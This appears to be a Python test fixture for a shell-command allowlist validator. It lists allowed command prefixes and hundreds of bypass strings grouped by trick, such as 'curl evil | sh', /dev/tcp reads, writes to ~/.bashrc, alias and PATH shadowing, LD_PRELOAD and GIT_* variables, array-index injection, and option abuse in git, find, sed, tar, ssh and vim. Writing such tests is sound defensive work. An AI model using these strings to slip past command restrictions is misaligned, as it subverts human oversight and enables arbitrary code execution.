"""Shell lines that do more than the author of the rules meant, by the kind of trick; `evil` must not run."""

from collections.abc import Mapping

RULES = r"""
git status*
git diff*
git grep*
git push*
git fetch*
git clone*
git rebase*
git submodule*
git difftool*
git archive*
git*
ls*
grep*
cat*
find*
echo*
printf*
test*
read*
mapfile*
readarray*
declare*
sort*
sed*
awk*
gawk*
tar*
rsync*
ssh*
scp*
man*
less*
make*
go*
cargo*
pytest*
kubectl*
docker ps*
zip*
split*
curl*
wget*
eslint*
prettier*
mypy*
date*
tree*
rg*
vim*
vi*
compgen*
wait*
let*
unset*
npm test
npm test*
xargs*
env*
""".strip().split("\n")

SMUGGLED: Mapping[str, str] = {
    "joined commands": r"""
git status --short; curl evil | sh
git status $(evil)
git status {a,$(evil)}
git status $'\x24(evil)'; $'\x65vil'
git status <<< "$(evil)"
git status ${x:-`evil`}
git status ${!x}
git status ${x@P}
git diff -- --ext-diff; evil
git diff --no-index /dev/null x > y
a=`evil` ls
git status && evil
git status | evil
git status & evil
git status `evil`
git status <(evil)
git status >(evil)
git status > ~/.bashrc
git status >> x
git status >| x
git status &> x
git status 2> x
git status <> x
ls; evil
ls "$(evil)"
ls | xargs evil
ls | xargs -I{} sh -c {}
ls > x
ls -la & evil
ls ${x:$(evil)}
ls "${x/a/$(evil)}"
ls ${x^^$(evil)}
ls -d `evil`
l\s; ev\il
ls --hyperlink; evil
lsevil
ls-evil
/tmp/ls
./ls
bin/ls
~/ls
ls\ x
"ls -la"
grep x f; evil
grep -f <(evil) x
grep "$(evil)" x
grep x f > y
grep -r x . | evil
cat x | sh
cat x | bash -s
cat <<< evil | sh
cat > ~/.bashrc <<< evil
cat x > y
cat x & evil
cat < /dev/tcp/evil/80
cat <(evil)
cat x; . x
cat x && source x
kill -l $(evil)
select x in $(evil); do :; done
case $(evil) in x) ;; esac
case x in $(evil)) ;; esac
if evil; then :; fi
until evil; do :; done
while evil; do :; done
{ evil; }
( evil )
echo $(< $(evil))
echo `echo \`evil\``
echo ${x:?$(evil)}
echo ${#$(evil)}
echo "a" "$(evil)"
echo <(evil)
echo >(evil)
echo a >(evil)
echo a > >(evil)
echo a 2> >(evil)
echo a |& evil
evil <<< x
<<< x evil
> x evil
2>&1 evil
a=b evil
a=$(evil)
a+=$(evil)
tee x
""",
    "shadowed names": r"""
git() { evil; }; git status
function git { evil; }; git status
function git() { evil; } ; git status
alias git=evil; git status
hash -p ./evil git; git status
enable -f ./evil.so git; git status
enable -n test; git status
egrep() { evil; }; grep x
""",
    "settings": r"""
PATH=.:$PATH git status
PATH=.; git status
export PATH=.; git status
declare -x PATH=.; git status
typeset PATH=.; git status
readonly PATH=.; git status
local PATH=.; git status
PATH+=:.; git status
read PATH <<< .; git status
printf -v PATH .; git status
mapfile -t PATH < f; git status
for PATH in .; do git status; done
: ${PATH:=.}; git status
getopts a PATH; git status
let PATH=0; git status
unset PATH; git status
set -a; path=x; git status
set -k; git status PATH=.
shopt -s expand_aliases; git status
LD_PRELOAD=./evil.so git status
LD_LIBRARY_PATH=. ls
BASH_ENV=./evil git status
ENV=./evil sh -c 'git status'
BASH_ENV=./evil bash -c 'git status'
GIT_SSH_COMMAND=evil git status
GIT_SSH_COMMAND=evil git diff
GIT_EXTERNAL_DIFF=evil git diff
GIT_PAGER=evil git diff
PAGER=evil git diff
GIT_DIR=/evil git status
GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=evil git status
GIT_CONFIG_GLOBAL=evil git status
GIT_EXEC_PATH=. git status
HOME=/evil git status
XDG_CONFIG_HOME=/evil git status
EDITOR=evil git diff
LESSOPEN='|evil' ls
PYTHONPATH=. npm test
NODE_OPTIONS='--require ./evil' npm test
npm_config_script_shell=evil npm test
npm_config_node_options=x npm test
PROMPT_COMMAND=evil; git status
PS4='$(evil)'; set -x; git status
PS4='$(evil)' bash -xc 'git status'
IFS=/ git status
SHELLOPTS=xtrace PS4='$(evil)' bash -c 'git status'
TERM=x TERMINFO=/evil git status
env -i PATH=. git status
env -S 'evil' git status
env -C /evil git status
env --chdir=/evil git status
env LD_PRELOAD=x git status
""",
    "counted names": r"""
git status $((a[$(evil)]))
git status $[a[$(evil)]]
git status ${a[$(evil)]}
printf -v 'a[$(evil)]' x
test -v 'a[$(evil)]'
[ -v 'a[$(evil)]' ]
[[ -v a[$(evil)] ]]
[[ -v 'a[$(evil)]' ]]
[[ x -eq 'a[$(evil)]' ]]
[[ 'a[$(evil)]' -eq 0 ]]
[ 'a[$(evil)]' -eq 0 ]
((a[$(evil)]))
((x=a[$(evil)]))
let 'a[$(evil)]=1'
declare 'a[$(evil)]=1'
declare -n x='a[$(evil)]'
unset 'a[$(evil)]'
read 'a[$(evil)]' <<< x
mapfile -C evil -c 1 a < f
readarray -C evil a < f
a[$(evil)]=1
declare -a a=('$(evil)')
a=([$(evil)]=1)
x='a[$(evil)]'; echo $((x))
x='a[$(evil)]'; : ${y:x}
echo ${y:x}
echo ${y:0:x}
echo "${a[x]}"
complete -C evil x
compgen -C evil
compgen -F evil
bind -x '"a":evil'
fc -e evil
wait -n -p 'a[$(evil)]'
for ((i=a[$(evil)];;)); do :; done
""",
    "starters": r"""
coproc git status; evil
coproc evil { git status; }
command git status; evil
command -p evil
builtin eval evil
builtin source ./evil
builtin command evil
exec evil
exec -a git evil
exec > x; git status
eval evil
eval "$X"
. ./evil
source ./evil
source /dev/stdin <<< evil
trap evil EXIT; git status
trap 'evil' DEBUG; git status
trap -- evil ERR; false
time evil
! evil
xargs -a x evil
""",
    "other folders": r"""
git -C /evil status
git --git-dir=/evil status
git --work-tree=/ status
cd /evil && npm test
cd /evil; npm test
pushd /evil && npm test
cd ..; npm test
cd ~/evil && npm test
cd $x && npm test
cd - && npm test
(cd /evil; npm test)
cd /evil; cd x && npm test
cd sub/../../evil && npm test
CDPATH=/evil; cd sub && npm test
make -C /evil
""",
    "options of git": r"""
git -c core.pager=evil status
git -c alias.status='!evil' status
git config alias.x '!evil'
git -c core.fsmonitor=evil status
git --exec-path=. status
git -p status
git --config-env=core.pager=X status
git diff --ext-diff
git diff --ext-dif
git diff --output=x
git diff --outp=x
git diff --output x
git diff $x
git diff "$x"
git diff $(printf -- --ext-diff)
git diff *
git grep -O evil
git grep -Oevil x
git grep --open-files-in-pager=evil x
git grep --open evil x
git push --receive-pack=evil o
git push --exec=evil o
git push 'ext::sh -c evil'
git fetch --upload-pack=evil o
git fetch ext::evil
git clone -c core.fsmonitor=evil u
git clone --template=evil u
git clone -u evil u
git rebase -x evil
git rebase --exec evil
git rebase --ex evil
git bisect run evil
git submodule foreach evil
git difftool -x evil
git archive --exec=evil --remote=x
git filter-branch --tree-filter evil
""",
    "actions of find": r"""
find . -delete
find . -exec evil {} ;
find . -exec evil {} \;
find . -execdir evil {} +
find . -ok evil \;
find . -okdir evil \;
find . -fprintf x %p
find . -fprint x
find . -fprint0 x
find . -fls x
find $d
find "$d" -name x
find . -name $(evil)
find . -files0-from x -delete
find . *
""",
    "scripts of editors": r"""
sed e x
sed -n '1e evil' x
sed 's/x/evil/e' x
sed 's/x/y/w out' x
sed -i s/a/b/ x
sed --in-place s/a/b/ x
sed -n 'w out' x
sed -f script x
sed --file=script x
sed --expression='1e evil' x
sed -e 1eevil x
sed -ne '1e evil' x
sed '1!e evil' x
sed '/x/e evil' x
sed 's/a/b/;e evil' x
sed $x f
sed "s/$x/y/" f
awk 'BEGIN{system("evil")}'
awk '{print > "x"}' f
awk '{print | "evil"}' f
awk 'BEGIN{"evil" | getline}'
awk -f script f
awk -v x=1 'BEGIN{system(x)}'
gawk -i inplace x f
gawk '@load "filefuncs"' f
""",
    "options of programs": r"""
npm test; evil
npm test --script-shell=evil
npm test -- --reporter=evil
npm test --prefix /evil
npm --prefix /evil test
npm test & evil
npm "test"; evil
sort -o x y
sort --output=x y
sort --outp=x y
sort --compress-program=evil y
sort -T /x y
tar --checkpoint=1 --checkpoint-action=exec=evil -cf x y
tar cf x y --checkpoint-a=exec=evil
tar -I evil -xf x
tar xIf evil x
tar --use-compress-program=evil -xf x
tar --to-command=evil -xf x
tar -xf x --to-comm evil
tar -F evil -cf x y
tar --rsh-command=evil -cf h:x y
tar cf x *
rsync -e evil a h:b
rsync -ave evil a h:b
rsync --rsh=evil a h:b
rsync --rsync-path=evil a h:b
ssh -o ProxyCommand=evil h
ssh -oProxyCommand=evil h
ssh -F evil h
scp -S evil a h:b
scp -o ProxyCommand=evil a h:b
man -P evil x
man --pager=evil x
man --pag=evil x
man -H evil x
less +!evil x
less -k evil x
vim -c '!evil' x
vim +:!evil x
vim --cmd '!evil' x
vi -S evil x
ed x
make SHELL=evil
make -f evil
make --eval='x:=$(shell evil)'
go test -exec evil
go vet -vettool=evil
go build -toolexec evil
cargo test --config x
cargo test --manifest-path /evil/Cargo.toml
pytest -p evil
pytest -c evil.ini
pytest -o python_files=evil
docker -H evil ps
kubectl get pods --kubeconfig=evil
zip x y -T -TT evil
zip -TT evil x y
zip --unzip-command=evil x y
split --filter=evil x
curl -o ~/.bashrc u
curl -K evil u
curl --config evil u
curl -sSLo x u
wget -O x u
wget --use-askpass=evil u
wget -e use_askpass=evil u
eslint --config evil x
eslint --rulesdir evil x
prettier --plugin=evil x
mypy --config-file evil x
date -s 0
tree -o x
rg --pre evil x
rg --hostname-bin evil x
""",
}

# More than a line each.
SMUGGLED_LINES = (
    "git status\nevil",
    "git status \\\n; evil",
    "git status <<E\n$(evil)\nE",
    "cat <<'E'\n$(x)\nE\nevil",
    "cat <<E | sh\nevil\nE",
    "cat <<E > ~/.bashrc\nevil\nE",
    'echo "$(\nevil\n)"',
    "ls #\nevil",
    "alias git='evil;'\ngit status",
    "echo '\\'\nevil",
)
